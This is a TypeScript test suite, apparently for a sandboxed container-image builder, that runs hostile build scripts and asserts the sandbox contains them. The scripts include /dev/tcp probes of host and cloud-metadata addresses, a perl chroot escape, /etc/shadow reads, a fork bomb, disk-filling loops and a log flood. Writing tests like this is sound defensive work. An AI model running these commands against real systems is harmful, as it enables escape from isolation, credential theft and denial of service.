/** A Dockerfile's RUN that means harm: what it reaches, what it may use up, and that nothing of it is left. */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type AddressInfo, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { BuildFailure } from '../../src/domain/image.ts';
import { DEFAULT_BUILD_LIMITS, type BuildLimits } from '../../src/image/container-build.ts';
import { buildOnce, cannotBuild, processesWith, testBuilder, workFolder, type Outcome } from './image-build-fixture.ts';

const MIB = 1024 ** 2;

describe('hostile container build', { skip: await cannotBuild() }, () => {
  let work: { path: string } & Disposable;
  before(() => {
    work = workFolder();
  });
  after(() => work?.[Symbol.dispose]());

  async function attack(run: string, limits: Partial<BuildLimits> = {}, more: { signal?: AbortSignal; allowChroot?: boolean; onLine?: (line: string) => void } = {}): Promise<Outcome & { ms: number }> {
    const { signal, allowChroot = false, onLine } = more;
    await using builder = await testBuilder(work.path, { limits: { ...DEFAULT_BUILD_LIMITS, ...limits }, allowChroot });
    const start = performance.now();
    const outcome = await buildOnce({
      folder: work.path,
      builder,
      dockerfile: `FROM lull/base\nCOPY attack.sh /attack.sh\nRUN bash /attack.sh\n`,
      files: { 'attack.sh': run },
      maxLogBytes: MIB,
      ...(signal === undefined ? {} : { signal }),
      ...(onLine === undefined ? {} : { onLine }),
    });
    assert.deepEqual(leftovers(work.path), [], 'processes and mounts are gone');
    return { ...outcome, ms: performance.now() - start };
  }

  it('does not reach the host, with a network or without', async () => {
    await using listener = await listen();
    const addresses = ['127.0.0.1', ...hostAddresses(), '198.18.0.2', '10.0.2.2', '169.254.169.254'];
    const script = addresses.map((address) => `timeout 2 bash -c 'echo hello > /dev/tcp/${address}/${listener.port}' && echo "REACHED ${address}"`).join('\n');
    for (const egress of ['none', 'auto'] as const) {
      await using builder = await testBuilder(work.path, { egress });
      const built = await buildOnce({ folder: work.path, builder, dockerfile: `FROM lull/base\nCOPY attack.sh /\nRUN bash /attack.sh; echo ${egress} done\n`, files: { 'attack.sh': script } });
      assert.ok(built.lines.includes(`${egress} done`), built.lines.join('\n'));
      assert.deepEqual(built.lines.filter((line) => line.startsWith('REACHED')), []);
      assert.equal(listener.connections(), 0);
      // What the sandbox's routes say, the host's own rules say once more about the user that the network's process runs as.
      if (builder.egress.mode === 'none' || process.getuid?.() !== 0 || !existsSync('/usr/sbin/nft')) continue;
      const outside = spawnSync('setpriv', ['--reuid=lull-build', '--regid=lull-build', '--clear-groups', 'bash', '-c', script], { encoding: 'utf8' });
      assert.doesNotMatch(outside.stdout, /REACHED/);
      assert.match(outside.stderr, /refused|unreachable|No route/i);
      assert.equal(listener.connections(), 0);
    }
  });

  it('sees nothing of the host, not even outside its chroot', async () => {
    writeFileSync(join(work.path, 'readable-by-all'), 'host secret', { mode: 0o644 });
    // The classic way out of a chroot, with the capability that buildah leaves in.
    const escape = `mkdir("/d"); chroot("/d") or print "chroot: $!\\n"; chdir("..") for 1..50; chroot(".") or print "chroot: $!\\n";`;
    const look = `for $d ("", "/etc", "/root", "/home", "${work.path}") { opendir(D, "$d/") or next; print "SEES $d/$_\\n" for grep { !/^\\.+$/ } readdir(D) } open(F, "/etc/shadow") and print <F>;`;
    const script = `cat /etc/shadow; perl -e '${escape} ${look}'; ls -l /proc/1/root/ /proc/1/cwd/; kill -9 1; exit 0`;
    const shut = await attack(script);
    assert.equal(shut.error, undefined, shut.lines.join('\n'));
    assert.ok(shut.lines.includes('chroot: Operation not permitted'), shut.lines.join('\n'));
    assert.ok(!shut.lines.includes('SEES /storage'));
    const outcome = await attack(`${script} # not from the cache`, {}, { allowChroot: true });
    assert.equal(outcome.error, undefined, outcome.lines.join('\n'));
    // It did get out, so what follows says something: the builder's own storage is there, and no more.
    assert.ok(outcome.lines.includes('SEES /storage'), outcome.lines.join('\n'));
    const hostShadow = process.getuid?.() === 0 ? readFileSync('/etc/shadow', 'utf8').split('\n') : [];
    for (const line of outcome.lines) {
      assert.ok(!line.includes('readable-by-all'), line);
      assert.ok(!/^SEES \/(home\/|root\/(?!\.(local|cache|config)$))/.test(line), line);
      assert.ok(!(line.includes(':') && hostShadow.includes(line)), line);
    }
  });

  it('ends a fork bomb', async () => {
    const outcome = await attack(':(){ :|:& };:\nwait\nsleep 1000', { processes: 200, totalMs: 2500 });
    assert.ok(outcome.error instanceof BuildFailure);
    assert.equal(outcome.error.code, 'CONTAINER_BUILD_FAILED');
    assert.ok(outcome.ms < 15_000, `${outcome.ms} ms`);
  });

  it('stops one file that fills the disk', async () => {
    const outcome = await attack('cat /dev/zero > /fill', { diskBytes: 64 * MIB });
    assert.ok(outcome.error instanceof BuildFailure);
    assert.equal(outcome.error.code, 'DISK_STORAGE_FULL', outcome.lines.join('\n'));
    assert.equal(outcome.error.message, 'The container image build ran out of disk space.');
  });

  it('stops many files that fill the disk, and frees it', async () => {
    const outcome = await attack('i=0; while [ $i -lt 10000 ]; do dd if=/dev/urandom of=/fill$i bs=1M count=16 2> /dev/null; i=$((i+1)); done', { diskBytes: 128 * MIB });
    assert.ok(outcome.error instanceof BuildFailure);
    assert.equal(outcome.error.code, 'DISK_STORAGE_FULL', outcome.lines.join('\n'));
    assert.ok(usedMib(work.path) < 150, `${usedMib(work.path)} MiB are left`);
  });

  it('ends an endless sleep, its children and what they detach', async () => {
    const outcome = await attack('setsid sleep 1234 & (sleep 1234 &) ; trap "" TERM HUP INT; sleep 1234', { totalMs: 1500 });
    assert.ok(outcome.error instanceof BuildFailure);
    assert.ok(outcome.lines.some((line) => line.includes('did not end within 1500 ms')), outcome.lines.join('\n'));
    assert.ok(outcome.ms < 5000, `${outcome.ms} ms`);
  });

  it('ends with its signal', async () => {
    const stop = new AbortController();
    const onLine = (line: string): void => {
      if (line === 'it runs') stop.abort(new Error('no longer wanted'));
    };
    const outcome = await attack('echo it runs; sleep 1000', {}, { signal: stop.signal, onLine });
    assert.equal((outcome.error as Error).message, 'no longer wanted');
  });

  it('keeps a bounded log of a flood', async () => {
    const outcome = await attack('head -c 200000000 /dev/zero & timeout 1 yes; echo; exit 1');
    assert.ok(outcome.error instanceof BuildFailure);
    const kept = outcome.lines.join('\n').length;
    assert.ok(kept < 1.2 * MIB, `${kept} characters`);
    assert.ok(outcome.lines.at(-1)?.includes('the log is full'));
  });

  it('dies with its server', { timeout: 20_000 }, async () => {
    const script = join(import.meta.dirname, 'image-build-dying-server.ts');
    const server = spawn(process.execPath, [script, work.path], { stdio: ['ignore', 'pipe', 'inherit'] });
    await once(server.stdout, 'data');
    const sandboxes = processesWith(work.path);
    assert.notDeepEqual(sandboxes, []);
    const networks = processesWith('slirp4netns').filter((pid) => sandboxes.some((sandbox) => commandOf(pid).includes(` ${sandbox} tap0`)));
    server.kill('SIGKILL');
    await once(server, 'close');
    // There is no event for the end of somebody else's process; the runner's time limit bounds this.
    while (leftovers(work.path).length > 0 || networks.some((pid) => commandOf(pid).includes('tap0'))) await new Promise((resolve) => setTimeout(resolve, 20));
    await using _ = await testBuilder(work.path);
    assert.deepEqual(readdirSync(join(work.path, 'builder/roots')), []);
  });
});

function hostAddresses(): readonly string[] {
  return Object.values(networkInterfaces())
    .flatMap((list) => list ?? [])
    .filter(({ family, internal }) => family === 'IPv4' && !internal)
    .map(({ address }) => address);
}

async function listen(): Promise<{ port: number; connections(): number } & AsyncDisposable> {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  }).listen(0, '0.0.0.0');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    connections: () => connections,
    [Symbol.asyncDispose]: async () => {
      server.close();
      await once(server, 'close');
    },
  };
}

/** Processes that name the folder or sleep for the tests, mounts below it, and folders of sandboxes. */
function leftovers(folder: string): readonly string[] {
  const mounts = readFileSync('/proc/self/mounts', 'utf8').split('\n').filter((line) => line.includes(folder));
  const processes = [...processesWith(folder), ...processesWith('sleep\x001234'), ...processesWith('/attack.sh')];
  return [...mounts, ...processes.map((pid) => `process ${pid}: ${commandOf(pid)}`)];
}

const commandOf = (pid: string): string => {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'latin1').replaceAll('\0', ' ').slice(0, 1000);
  } catch {
    return 'gone';
  }
};

function usedMib(folder: string): number {
  let bytes = 0;
  const walk = (path: string): void => {
    for (const entry of readdirSync(path, { withFileTypes: true })) {
      if (entry.isDirectory()) walk(join(path, entry.name));
      else if (entry.isFile()) bytes += statSync(join(path, entry.name)).blocks * 512;
    }
  };
  walk(folder);
  return bytes / MIB;
}
